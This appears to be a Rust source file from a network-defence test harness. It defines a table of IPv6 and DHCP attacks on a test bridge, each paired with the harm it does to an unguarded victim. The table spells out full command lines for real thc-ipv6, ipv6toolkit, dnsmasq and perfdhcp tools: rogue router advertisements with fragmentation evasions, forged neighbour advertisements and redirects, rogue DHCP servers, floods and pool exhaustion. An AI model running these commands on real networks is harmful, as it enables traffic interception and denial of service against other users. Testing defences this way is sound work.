//! The attacks: real tools of Debian's thc-ipv6, ipv6toolkit, kea-admin and dnsmasq, and what each does to a victim on a plain bridge.

use super::bed::Bed;
use super::ear::Sign;
use super::harm::{FORGED, Harm, ROGUE_PREFIX, ROGUE_SERVER};

/// An attack.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// What it pretends, in the table.
    pub name: &'static str,
    /// The tool with its arguments; words in braces stand for what differs between beds.
    pub command: &'static str,
    /// What it does where nobody guards.
    pub harm: Harm,
    /// Whether it only answers what it hears, so that it may have nothing to say.
    pub reactive: bool,
}

const fn attack(name: &'static str, command: &'static str, harm: Harm) -> Attack {
    Attack {
        name,
        command,
        harm,
        reactive: false,
    }
}

const fn answering(name: &'static str, command: &'static str, harm: Harm) -> Attack {
    Attack {
        reactive: true,
        ..attack(name, command, harm)
    }
}

const fn heard(kind: u8) -> Harm {
    Harm::Heard(Sign::Icmp(kind), 1)
}

const FRAGMENT: Harm = Harm::Heard(Sign::Fragment, 1);
/// The first is harmless by itself.
const FRAGMENTS: Harm = Harm::Heard(Sign::Fragment, 2);

/// Every attack of the table.
pub const ATTACKS: &[Attack] = &[
    attack(
        "a router",
        "atk6-fake_router26 -A {prefix} -i 1 eth0",
        Harm::Address,
    ),
    attack(
        "a router behind hop-by-hop options",
        "atk6-fake_router26 -E H -A {prefix} -i 1 eth0",
        Harm::Address,
    ),
    attack(
        "a router in atomic fragments",
        "atk6-fake_router26 -E 111 -A {prefix} -i 1 eth0",
        Harm::Address,
    ),
    attack(
        "a router behind options that are cut",
        "atk6-fake_router26 -E D -A {prefix} -i 1 eth0",
        FRAGMENT,
    ),
    attack(
        "a router in overlapping fragments, the last wins",
        "atk6-fake_router26 -E o -A {prefix} -i 1 eth0",
        FRAGMENTS,
    ),
    attack(
        "a router in overlapping fragments, the first wins",
        "atk6-fake_router26 -E O -A {prefix} -i 1 eth0",
        FRAGMENTS,
    ),
    attack(
        "a router by every evasion",
        "atk6-fake_router26 -E F -A {prefix} -i 1 eth0",
        FRAGMENT,
    ),
    attack(
        "a router, by the older tool",
        "atk6-fake_router6 -H eth0 {prefix}",
        Harm::Address,
    ),
    attack(
        "a router, by the other toolkit",
        "ra6 -i eth0 -s {attacker_ll} -d ff02::1 -e -P {prefix}#LA#2000#1000 -t 1800",
        Harm::Address,
    ),
    attack(
        "a router to one guest alone",
        "ra6 -i eth0 -s {attacker_ll} -d {victim_ll} -D {victim_mac} -P {prefix}#LA#2000#1000 -t 1800",
        Harm::Address,
    ),
    attack(
        "the end of the router",
        "atk6-kill_router6 eth0 {router}",
        Harm::Heard(Sign::EmptyRa, 1),
    ),
    attack(
        "a flood of routers",
        "atk6-flood_router26 eth0",
        Harm::Routes(100),
    ),
    attack(
        "a redirect",
        "rd6 -i eth0 -s {router} -d {victim} -r 2001:db8:ffff::1 -t {attacker_ll} -E {forged}",
        heard(137),
    ),
    attack(
        "a redirect, by the other toolkit",
        "atk6-redir6 eth0 {victim} 2001:db8:ffff::1 {router} {attacker_ll} {forged}",
        heard(137),
    ),
    attack(
        "a neighbour, to the victim",
        "na6 -i eth0 -s {neighbour} -d {victim} -t {neighbour} -E {forged} -o -c",
        Harm::Neighbour,
    ),
    attack(
        "a neighbour, to all",
        "atk6-fake_advertise6 -w 1 eth0 {neighbour} ff02::1 {forged}",
        Harm::Neighbour,
    ),
    attack(
        "a neighbour's question",
        "ns6 -i eth0 -s {neighbour} -d {victim} -t {victim} -E {forged}",
        Harm::Neighbour,
    ),
    attack(
        "a neighbour's MAC",
        "ns6 -i eth0 -s {attacker_ll} -S {neighbour_mac} -d {victim_ll} -D {victim_mac} -t {victim_ll}",
        Harm::Stolen,
    ),
    answering(
        "every neighbour",
        "atk6-parasite6 -l eth0 {forged}",
        Harm::Neighbour,
    ),
    answering(
        "the owner of every new address",
        "atk6-dos-new-ip6 eth0",
        Harm::Refused,
    ),
    answering(
        "a DHCPv6 server",
        "atk6-fake_dhcps6 eth0 {prefix} {server}",
        Harm::Answer,
    ),
    answering(
        "a DHCPv4 server",
        "dnsmasq --no-daemon --conf-file=/dev/null --user=root --port=0 --interface=eth0 \
         --leasefile-ro --pid-file --no-ping --dhcp-range=10.99.0.100,10.99.0.150,1h",
        Harm::Lease,
    ),
    attack(
        "an MLD querier",
        "atk6-fake_mld6 eth0 query",
        Harm::Heard(Sign::Query, 1),
    ),
    attack(
        "a flood of listeners",
        "atk6-flood_mld6 eth0",
        Harm::Heard(Sign::Icmp(131), 1000),
    ),
    attack(
        "a path with a small MTU",
        "atk6-toobig6 -u eth0 {victim} {neighbour} 1280",
        Harm::PathMtu,
    ),
    attack(
        "echoes of all for the victim",
        "atk6-smurf6 eth0 {victim}",
        Harm::Heard(Sign::Icmp(129), 10),
    ),
    attack(
        "echoes of the victim for all",
        "atk6-rsmurf6 eth0 {victim}",
        Harm::Heard(Sign::FromAllNodes, 1),
    ),
    attack(
        "a neighbour's datagram",
        "udp6 -i eth0 -s {neighbour} -d {victim} -a 9 -o 9",
        Harm::Heard(Sign::Discard, 1),
    ),
    attack(
        "a neighbour's connection, with its MAC",
        "tcp6 -i eth0 -s {neighbour} -S {neighbour_mac} -d {victim} -D {victim_mac} -a 9 -o 9 -X S",
        Harm::Heard(Sign::Discard, 1),
    ),
    attack(
        "a flood of questions",
        "atk6-flood_solicitate6 -k eth0 {victim} {victim}",
        Harm::Heard(Sign::Icmp(135), 1000),
    ),
    attack(
        "all clients of a DHCPv6 server",
        "atk6-flood_dhcpc6 -N eth0",
        Harm::Leases,
    ),
    // Unlike that tool it takes what it is offered, for each of its clients.
    attack(
        "so many clients that take what a DHCPv6 server has",
        "perfdhcp -6 -l eth0 -r 1000 -R 10000 -p 60",
        Harm::Pool,
    ),
];

impl Attack {
    /// The tool with its arguments on this bed.
    pub fn on(&self, bed: &Bed) -> String {
        let words: [(&str, String); 11] = [
            ("{prefix}", ROGUE_PREFIX.to_owned()),
            ("{server}", ROGUE_SERVER.to_string()),
            ("{forged}", FORGED.to_owned()),
            ("{router}", bed.router.to_string()),
            ("{attacker_ll}", bed.attacker.link_local.to_string()),
            ("{victim}", bed.victim.global.to_string()),
            ("{victim_ll}", bed.victim.link_local.to_string()),
            ("{victim_mac}", bed.victim.mac.to_string()),
            ("{neighbour}", bed.neighbour.global.to_string()),
            ("{neighbour_mac}", bed.neighbour.mac.to_string()),
            ("{neighbour_ll}", bed.neighbour.link_local.to_string()),
        ];
        let command = self.command.to_owned();
        words.iter().fold(command, |command, (word, value)| {
            command.replace(word, value)
        })
    }

    /// The tool's name.
    pub fn tool(&self) -> &'static str {
        self.command.split(' ').next().unwrap_or_default()
    }

    /// Debian's package of the tool.
    pub fn package(&self) -> &'static str {
        match self.tool() {
            "dnsmasq" => "dnsmasq-base",
            "perfdhcp" => "kea-admin",
            tool if tool.starts_with("atk6-") => "thc-ipv6",
            _ => "ipv6toolkit",
        }
    }
}
